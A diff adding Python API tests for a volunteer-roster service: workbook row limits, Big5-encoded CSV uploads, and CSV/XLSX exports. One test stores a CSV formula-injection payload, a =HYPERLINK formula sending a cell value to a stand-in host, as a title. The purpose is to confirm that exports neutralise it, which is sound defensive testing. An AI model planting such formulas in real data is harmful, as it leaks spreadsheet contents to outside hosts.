@@ -7,10 +7,14 @@ so they run on SQLite and, where ``TEST_DATABASE_URL`` is set, PostgreSQL.
 from __future__ import annotations
 
 import datetime as dt
+import io
 import re
 import threading
+import time
+from pathlib import Path
 from typing import Any
 
+import openpyxl
 import pandas as pd
 from fastapi import FastAPI
 from fastapi.testclient import TestClient
@@ -19,7 +23,10 @@ from sqlalchemy import func, select
 from api.store.models import DatasetItem, SolveJob
 from tests.api.conftest import SAMPLE, csv_files, headers
 from tests.api.test_rosters import wait_for
+from tests.test_encodings import big5_able
+from tests.test_read_limits import raw_workbook
 
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 OFFSET = re.compile(r"(Z|[+-]\d\d:\d\d)$")
 
 
@@ -313,3 +320,73 @@ def test_sequential_publish_supersedes(
     later = client.post(f"/rosters/{twin}/publish", headers=coordinator)
     assert later.status_code == 200 and later.json()["superseded"] == roster_id
     assert set(_history_rows(app, dataset_id)) - {None} == {twin}
+
+
+# 1, 2 and 10: uploads and exports ------------------------------------------------------
+
+
+def test_small_workbook_of_many_rows_is_413_at_once(
+    client: TestClient, keys: dict[str, str], tmp_path: Path
+) -> None:
+    rows = [["id", "name", "role", "membership", "department", "a", "b", "c", "d", "e"]]
+    rows += [[f"V{i}", "某", "student", "none", "x", 1, 2, 3, 4, 5] for i in range(60_000)]
+    book = raw_workbook(tmp_path / "many.xlsx", {"volunteers": rows})
+    began = time.perf_counter()
+    answer = client.post(
+        "/datasets",
+        files=[("files", ("many.xlsx", book.read_bytes(), XLSX))],
+        headers=headers(keys["coordinator"]),
+    )
+    took = time.perf_counter() - began
+    assert answer.status_code == 413, answer.text
+    assert "20000" in answer.text.replace(",", "") and "volunteers" in answer.text
+    assert took < 5, f"refused after {took:.1f} s"
+    assert client.get("/datasets", headers=headers(keys["viewer"])).json() == []
+
+
+def test_big5_sample_is_stored_with_its_real_names(
+    client: TestClient, keys: dict[str, str], tmp_path: Path
+) -> None:
+    texts = {p.stem: big5_able(p.read_text(encoding="utf-8-sig")) for p in SAMPLE.glob("*.csv")}
+    files = [
+        ("files", (f"{stem}.csv", text.encode("big5"), "text/csv")) for stem, text in texts.items()
+    ]
+    made = client.post("/datasets", files=files, headers=headers(keys["coordinator"]))
+    assert made.status_code == 201, made.text
+    listed = client.get(
+        f"/datasets/{made.json()['id']}/volunteers",
+        params={"limit": 500},
+        headers=headers(keys["coordinator"]),
+    ).json()["items"]
+    expected = pd.read_csv(io.StringIO(texts["volunteers"]), dtype=str)
+    assert [v["name"] for v in listed] == list(expected["name"])
+    assert all("\ufffd" not in v["name"] + v["department"] for v in listed)
+    garbage = bytes(range(128, 256)) * 20
+    refused = client.post(
+        "/datasets", files=csv_files(volunteers=garbage), headers=headers(keys["coordinator"])
+    )
+    assert refused.status_code == 400 and "volunteers.csv" in refused.text
+
+
+def test_exports_never_carry_a_live_formula(
+    app: FastAPI, client: TestClient, keys: dict[str, str], dataset_id: int
+) -> None:
+    title = '=HYPERLINK("http://example.invalid/?x="&D2,"open")'
+    coordinator = headers(keys["coordinator"])
+    need = client.get(f"/datasets/{dataset_id}/needs/N001", headers=coordinator).json()
+    changed = client.put(
+        f"/datasets/{dataset_id}/needs/N001", json={**need, "title": title}, headers=coordinator
+    )
+    assert changed.status_code == 200, changed.text
+    roster_id = _done_roster(client, keys, dataset_id)
+    rows = client.get(f"/rosters/{roster_id}", headers=headers(keys["viewer"])).json()["roster"]
+    assert any(r["need_title"] == title for r in rows), "N001 is staffed in the sample"
+    viewer = headers(keys["viewer"])
+    csv = client.get(f"/rosters/{roster_id}/export?format=csv", headers=viewer).content
+    assert b"\n=HYPERLINK" not in csv and b",=HYPERLINK" not in csv
+    assert "'=HYPERLINK" in csv.decode("utf-8-sig")
+    xlsx = client.get(f"/rosters/{roster_id}/export?format=xlsx", headers=viewer).content
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == title]
+    assert cells and all(c.data_type == "s" for c in cells)
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
